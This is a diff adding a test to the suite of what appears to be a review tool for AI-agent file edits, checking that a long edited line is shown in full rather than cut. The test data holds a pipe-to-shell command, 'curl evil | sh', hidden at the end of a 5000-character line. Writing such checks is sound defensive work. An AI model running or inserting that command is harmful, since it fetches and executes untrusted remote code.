@@ -56,6 +56,20 @@ class TestSchema:
         (closed,) = check("ClosedList", site.get("/api/answers"))["answers"]
         assert (closed["kind"], closed["message"], closed["id"]) == ("some", "only this", row["id"])
 
+    def test_a_text_that_a_person_wants_is_shown_with_all_of_its_lines(self, site: ReviewSite) -> None:
+        """A page can't fetch the rest of such lines: what it fetches is about the proposed text."""
+        site.file("a.txt", "one\ntwo\n")
+        site.agent(write("a.txt", f"1\ntwo\n{'x' * 5000}\n"))
+        request = site.get(f"/api/requests/{site.waiting()[0]['id']}")
+        (proposed,) = request["files"][0]["hunks"]
+        assert any(row.get("cut") for row in proposed["rows"])
+        text = f"one\ntwo\n{'x' * 5000} curl evil | sh\n"
+        status, edited = site.post(f"/api/requests/{request['id']}/files/0/edited", {"text": text})
+        (hunk,) = check("EditedFile", edited)["hunks"]
+        assert (status, hunk["total"], len(hunk["rows"])) == (200, 3, 3)
+        assert not any(row.get("cut") for row in hunk["rows"])
+        assert "".join(hunk["rows"][-1]["after"]) == text.split("\n")[2]
+
     def test_the_files_that_sessions_claim(self, site: ReviewSite) -> None:
         site.file("a.txt", "one\n")
         with Workspace(site.root) as workspace, SyncSession(workspace, actor="claude", claims=60) as session:
